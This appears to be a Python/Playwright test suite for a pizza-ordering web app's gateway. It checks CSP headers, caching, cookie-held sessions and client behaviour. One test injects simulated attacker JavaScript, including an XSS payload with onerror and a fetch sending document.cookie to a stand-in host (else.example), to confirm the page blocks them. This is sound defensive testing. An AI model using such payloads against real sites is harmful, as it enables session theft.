"""What the gateway sends with a page, who may hold a session in a cookie, and what a script that got into a page would find."""
import http.client
import json
import re
import time

from conftest import ANGERS, BASE, PASSWORD, SETTLED, Api, expect, sign_in, staff

HTML = "text/html,application/xhtml+xml,*/*;q=0.8"
OWN = {"Origin": BASE, "Sec-Fetch-Site": "same-origin"}


def ask(method, path, body=None, **headers):
    connection = http.client.HTTPConnection(BASE.removeprefix("http://"), timeout=60)
    data = None if body is None else json.dumps(body)
    connection.request(method, path, data, {**({"Content-Type": "application/json"} if data else {}), **headers})
    answer = connection.getresponse()
    text = answer.read()
    connection.close()
    return answer, text


def test_a_page_answers_only_where_html_is_asked_for():
    for path in ("/", "/panier", "/commande/x", "/cuisine", "/caisse", "/livraison", "/gestion", "/gestion/stock", "/docs"):
        answer, text = ask("GET", path, Accept=HTML)
        assert answer.status == 200 and b"<!doctype html>" in text, path
        answer, text = ask("GET", path, Accept="application/json")
        assert answer.status == 404 and json.loads(text)["type"] == "/problems/not-found", path
    # A path of the API stays what it is, even for a browser.
    answer, _ = ask("GET", "/restaurants", Accept=HTML)
    assert answer.getheader("Content-Type").startswith("application/json")
    answer, _ = ask("POST", "/", Accept=HTML)
    assert answer.status == 404
    answer, text = ask("GET", "/nulle-part", Accept=HTML)
    assert answer.status == 404 and b"<!doctype html>" in text
    # What is not there is never "not modified", and what one path answers depends on what is asked for.
    answer, text = ask("GET", "/nulle-part", Accept=HTML, **{"If-None-Match": answer.getheader("ETag")})
    assert answer.status == 404 and b"<!doctype html>" in text
    assert "Accept" in [part.strip() for value in answer.headers.get_all("Vary") for part in value.split(",")]
    answer, text = ask("HEAD", "/", Accept=HTML)
    assert answer.status == 200 and text == b""


def test_every_page_has_a_strict_policy():
    for path in ("/", "/cuisine", "/caisse", "/livraison", "/gestion"):
        answer, text = ask("GET", path, Accept=HTML)
        policy = answer.getheader("Content-Security-Policy")
        assert policy.startswith("default-src 'none'; script-src 'self'; style-src 'self'"), policy
        assert "require-trusted-types-for 'script'" in policy and "unsafe" not in policy
        assert answer.getheader("X-Content-Type-Options") == "nosniff"
        assert answer.getheader("Cross-Origin-Opener-Policy") == "same-origin"
        assert not re.search(rb"<script(?![^>]*src=)|\sstyle=|\son\w+=", text), "something stands inline"


def test_what_has_a_hash_is_kept_for_ever_and_the_rest_is_asked_for():
    answer, text = ask("GET", "/", Accept=HTML, **{"Accept-Encoding": "gzip"})
    tag = answer.getheader("ETag")
    assert answer.getheader("Cache-Control") == "no-cache"
    answer, text = ask("GET", "/", Accept=HTML, **{"Accept-Encoding": "gzip", "If-None-Match": tag})
    assert answer.status == 304 and text == b""
    _, page = ask("GET", "/", Accept=HTML)
    script = re.search(rb'src="(/assets/client-\w+\.js)"', page)[1].decode()
    answer, text = ask("GET", script, **{"Accept-Encoding": "gzip"})
    assert answer.getheader("Content-Encoding") == "gzip" and len(text) <= 85_000
    assert answer.getheader("Cache-Control") == "public, max-age=31536000, immutable"


def test_only_an_own_page_may_hold_a_session():
    customer = Api.customer()
    body = {"email": customer.account["email"], "password": PASSWORD}
    answer, text = ask("POST", "/session", body, **OWN)
    cookie = answer.getheader("Set-Cookie")
    assert answer.status == 200 and "refreshToken" not in json.loads(text)
    for part in ("__Secure-ocpizza-customer=", "Path=/session", "Secure", "HttpOnly", "SameSite=Strict"):
        assert part in cookie, cookie
    held = {"Cookie": cookie.split(";")[0]}
    for wrong in ({}, {"Origin": BASE}, {"Sec-Fetch-Site": "same-origin"}, {"Origin": "https://else.example", "Sec-Fetch-Site": "same-origin"},
                  {"Origin": BASE, "Sec-Fetch-Site": "cross-site"}, {"Origin": "null", "Sec-Fetch-Site": "same-origin"}):
        for method in ("POST", "PUT", "DELETE"):
            answer, _ = ask(method, "/session", body if method == "POST" else None, **wrong, **held)
            assert answer.status == 403 and not answer.getheader("Set-Cookie"), (method, wrong)
    answer, text = ask("PUT", "/session", **OWN, **held)
    assert answer.status == 200 and json.loads(text)["account"]["id"] == customer.account["id"]
    # The cookie of a customer opens no board.
    answer, _ = ask("PUT", "/session?of=staff", **OWN, **held)
    assert answer.status == 401
    held = {"Cookie": answer.getheader("Set-Cookie").split(";")[0]} if answer.getheader("Set-Cookie") else held
    answer, _ = ask("DELETE", "/session", **OWN, **held)
    assert answer.status == 204 and "Max-Age=0" in answer.getheader("Set-Cookie")
    answer, _ = ask("PUT", "/session?of=else", **OWN)
    assert answer.status == 422


def test_an_account_gets_no_session_on_a_screen_of_the_other_kind(person):
    """Its cookie would stay where nobody looks for it."""
    customer = Api.customer()
    for email, kind in (("manager@ocpizza.example", "customer"), (customer.account["email"], "staff")):
        for attempt in range(9):
            answer, _ = ask("POST", f"/session?of={kind}", {"email": email, "password": PASSWORD}, **OWN)
            if answer.status != 429:
                break
            time.sleep(1)
        assert answer.status == 403 and not answer.getheader("Set-Cookie")
    page = person()
    page.goto("/connexion")
    page.get_by_label("Adresse e-mail").fill("manager@ocpizza.example")
    page.get_by_label("Mot de passe").fill(PASSWORD)
    page.get_by_role("button", name="Se connecter").click()
    expect(page.get_by_text("Ce compte est celui d’un membre de l’équipe")).to_be_visible()
    answer, text = ask("GET", "/cuisine/", Accept=HTML)
    assert answer.status == 200 and "Cuisine".encode() in text


def test_a_log_out_without_an_answer_is_repeated_later(person):
    customer = Api.customer()
    page = person()
    sign_in(page, customer.account["email"], "/compte")
    page.route("**/session?*", lambda route: route.fulfill(status=503) if route.request.method == "DELETE" else route.continue_())
    page.get_by_role("button", name="Se déconnecter").click()
    expect(page.get_by_role("link", name="Se connecter").first).to_be_visible()
    page.unroute("**/session?*")
    page.reload()
    expect(page.get_by_role("link", name="Se connecter").first).to_be_visible()
    Api.wait_until(lambda: page.context.cookies(BASE + "/session") == [])


def test_a_script_that_got_in_finds_nothing_and_reaches_nobody(person):
    """A page that somebody stole into: what it could write is not run, and what it looks for is not there."""
    customer = Api.customer()
    page = person()
    sign_in(page, customer.account["email"], "/compte")
    found = page.evaluate("""async () => {
      const reports = []
      document.addEventListener("securitypolicyviolation", event => reports.push(event.effectiveDirective))
      const refused = name => act => { try { act(); return name + " was done" } catch (error) { return error.name } }
      const markup = refused("innerHTML")(() => { document.body.innerHTML = "<img src=x onerror=alert(1)>" })
      const code = refused("text")(() => { setTimeout("window.stolen = 1", 0) })
      const inline = document.createElement("script")
      const script = refused("script")(() => { inline.textContent = "window.stolen = 1"; document.body.append(inline) })
      const sent = await fetch("https://else.example/?" + document.cookie).then(() => "sent", error => error.name)
      const image = new Image(); image.src = "https://else.example/x.png"
      await new Promise(done => setTimeout(done, 300))
      return { markup, code, script, sent, stolen: window.stolen ?? null, cookie: document.cookie,
        kept: Object.values({ ...localStorage, ...sessionStorage }).join(" "), reports }
    }""")
    page.ignored()
    assert found["markup"] == "TypeError" and found["code"] == "TypeError", found
    assert found["sent"] == "TypeError" and found["stolen"] is None, found
    assert found["cookie"] == "" and "eyJ" not in found["kept"], found
    assert {"connect-src", "img-src"} <= set(found["reports"]), found


def test_the_page_of_the_api_shows_it(person):
    page = person(1280, 900)
    page.goto("/docs")
    expect(page.get_by_text("/orders/{id}").first).to_be_visible()
    page.get_by_text("Place an order", exact=True).click()
    expect(page.get_by_text("Idempotency-Key").first).to_be_visible()


def test_a_part_that_a_newer_version_has_not_is_fetched_by_loading_the_page_anew(person):
    """As after an update: the page that is open is of the version before."""
    page = person()
    page.goto(f"/carte/{ANGERS}")
    gone = []

    def part(route):
        if not gone and route.request.resource_type == "script":
            gone.append(route.request.url)
            return route.fulfill(status=404, json={})
        route.continue_()

    expect(page.get_by_role("button", name=re.compile("^Margherita"))).to_be_visible()
    page.route("**/assets/checkout-*.js", part)
    page.get_by_role("link", name=re.compile("^Panier")).click()
    expect(page.get_by_text("Votre panier est vide")).to_be_visible()
    assert gone


def test_a_browser_that_can_hold_no_session_is_told_so(person):
    page = person()
    page.route("**/session?*", lambda route: route.fulfill(status=403, json={
        "type": "/problems/forbidden", "status": 403, "detail": "Only the pages of this site may hold a session in a cookie."}))
    page.goto("/connexion")
    page.get_by_label("Adresse e-mail").fill("x@example.com")
    page.get_by_label("Mot de passe").fill(PASSWORD)
    page.get_by_role("button", name="Se connecter").click()
    expect(page.get_by_text("Votre navigateur est trop ancien")).to_be_visible()


def test_a_broken_link_of_a_mail_is_said_to_be_no_longer_valid(person):
    page = person()
    for path, said in (("/nouveau-mot-de-passe#%E0%A4%A", "Ce lien n’est plus valable."), ("/adresse-confirmee#%", "Ce lien n’est plus valable.")):
        page.goto("about:blank")
        page.goto(path)
        expect(page.get_by_text(said)).to_be_visible()


HIDE = """isHidden => {
  Object.defineProperty(document, "hidden", { configurable: true, get: () => isHidden })
  document.dispatchEvent(new Event("visibilitychange"))
}"""


def test_a_board_follows_with_one_stream_and_with_none_while_nobody_sees_it(person):
    """But for the kitchen's, which rings."""
    for path, name, follows in (("/caisse", "cashier", False), ("/livraison", "courier", False), ("/gestion", "manager", False), ("/cuisine", "pizzaiolo", True)):
        page = person(1280, 900)
        open_streams = set()
        page.on("request", lambda request: "/events" in request.url and open_streams.add(request))
        page.on("requestfailed", lambda request: open_streams.discard(request))
        page.on("requestfinished", lambda request: open_streams.discard(request))
        staff(page, path, name)
        expect(page.get_by_role("status", name="Chargement")).to_have_count(0)
        Api.wait_until(lambda: page.wait_for_timeout(50) or len(open_streams) == 1)
        page.evaluate(HIDE, True)
        if not follows:
            Api.wait_until(lambda: page.wait_for_timeout(50) or len(open_streams) == 0)
        # That it stays so can only be seen by waiting.
        page.wait_for_timeout(1500)
        assert len(open_streams) == (1 if follows else 0), path
        page.evaluate(HIDE, False)
        Api.wait_until(lambda: page.wait_for_timeout(50) or len(open_streams) == 1)
        page.context.close()


def test_nothing_moves_while_a_page_comes(person):
    """In whatever order the answers come: one of them is late each time."""
    for late in ("**/restaurants", "**/products?*", "**/categories"):
        page = person()
        page.add_init_script("""
          window.shift = 0
          new PerformanceObserver(list => { for (const entry of list.getEntries()) if (!entry.hadRecentInput) window.shift += entry.value })
            .observe({ type: "layout-shift", buffered: true })""")
        page.route(late, lambda route: (time.sleep(0.5), route.continue_()))
        page.goto("/")
        expect(page.get_by_role("heading", name="OC Pizza Angers")).to_be_visible()
        page.evaluate(SETTLED)
        assert page.evaluate("window.shift") <= 0.02, ("/", late)
        page.goto(f"/carte/{ANGERS}")
        expect(page.get_by_role("button", name=re.compile("^Margherita"))).to_be_visible()
        page.evaluate(SETTLED)
        assert page.evaluate("window.shift") <= 0.02, ("/carte", late)
